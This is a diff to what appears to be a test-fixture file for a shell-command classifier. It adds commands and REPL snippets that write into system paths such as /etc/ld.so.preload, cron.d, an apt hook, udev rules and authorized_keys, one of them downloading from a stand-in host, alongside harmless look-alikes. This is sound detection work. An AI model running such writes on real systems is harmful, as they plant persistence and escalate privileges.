@@ -18,6 +18,8 @@ OPTIONS = (
      "pcapsnarf -L /etc/pam.d/su run now", "zlogger --log-file=/etc/sudoers.d/90-x serve",
      "benchctl run --result-file /etc/cron.d/job", "fwinfo --export /etc/profile.d/x.sh",
      "tracewatch --record=/etc/systemd/system/x.service", "snmptrapd -Lf /etc/ld.so.preload",
+     "zlogger --log-file=/etc/update-motd.d/99-x serve", "varnishncsa -w /etc/udev/rules.d/99-x.rules",
+     "blobfetch https://h/x /etc/apt/apt.conf.d/99hook", "pcapsnarf -L /etc/zsh/zshrc run now",
      "cdrskin --trace-log /root/.ssh/authorized_keys dev=/dev/sr0"],
     ["ls -o /etc/shadow", "[ -O /etc/passwd ]", "fswatch -o /etc/hosts", "wc -w /etc/passwd", "stat -L /etc/sudoers",
      "namei -l /etc/shadow", "grep -L root /etc/passwd /etc/group", "diff -w /etc/hosts /tmp/hosts",
@@ -32,7 +34,8 @@ DESTINATIONS = (
      "netsave --quiet http://h/x /etc/pam.d/common-auth", "cp /tmp/x /etc/cron.d/sync",
      "script -q -c 'id' /etc/ld.so.preload", "asciinema rec /etc/profile.d/x.sh",
      "vaultctl export secret/x /root/.ssh/authorized_keys", "pkgmirror-dl file:///tmp/x file:///etc/passwd"],
-    ["cp /etc/sudoers /tmp/x", "gsget /etc/sudoers /tmp/sudoers.bak", "blobfetch https://h/x ./hosts",
+    ["cp /etc/sudoers /tmp/x", "sudo cp mylogrotate /etc/logrotate.d/myapp", "cat /etc/update-motd.d/00-header",
+     "gsget /etc/sudoers /tmp/sudoers.bak", "blobfetch https://h/x ./hosts",
      "hdfs dfs -get /etc/hosts /data/hosts", "sudo install -d /etc/cron.d", "vaultctl get secret/x /etc/hosts",
      "script -q /tmp/session.txt", "make DESTDIR=/tmp/root install", "rsync -a /etc/pam.d/ /backup/pam.d/",
      "kubectl cp /etc/hosts pod:/tmp/hosts", "scp /etc/hosts user@host:/tmp/"])
@@ -79,11 +82,16 @@ REPL = (
      "python3\nopen(\"/etc/cron.d/sync\", \"w\").write(\"* * * * * root /tmp/.s\")",
      "groovysh\nnew File(\"/etc/pam.d/su\").write(\"auth sufficient pam_permit.so\")",
      "bsh\nfw = new FileWriter(\"/etc/shadow\"); fw.write(\"x\"); fw.close();",
-     "scala\nnew java.io.PrintWriter(\"/etc/ld.so.preload\") { write(\"/tmp/x\"); close }"],
+     "scala\nnew java.io.PrintWriter(\"/etc/ld.so.preload\") { write(\"/tmp/x\"); close }",
+     "sqlite3\n.output /etc/hosts\nselect '10.9.8.7 updates.example.org';",
+     "mysql -u root\nselect 'x' into outfile '/etc/cron.d/x';",
+     "tclsh\nset f [open /etc/ld.so.preload w]; puts $f /tmp/x; close $f"],
     ["python3\nprint(open(\"/etc/passwd\").read())", "irb\nFile.read(\"/etc/hosts\")",
      "node\nfs.readFileSync(\"/etc/shadow\", \"utf8\")",
      "python3\nopen(\"/etc/hosts\", \"a\").write(\"10.0.0.5 db\\n\")",
-     "cd /tmp\necho \"$(date) done\" > /tmp/log.txt\ncat /etc/hosts"])
+     "cd /tmp\necho \"$(date) done\" > /tmp/log.txt\ncat /etc/hosts",
+     "cd /srv\necho \"export X=1\" > \"/etc/profile.d/x.sh\"",
+     "cd /srv\necho \"10.0.0.5 db\" | sudo tee -a /etc/hosts", "sqlite3\n.output /tmp/out.txt\nselect 1;"])
 
 # An editor or a pager opened and saved on the lines after it: the typed lines read as appended, a save-as over.
 SESSIONS = (
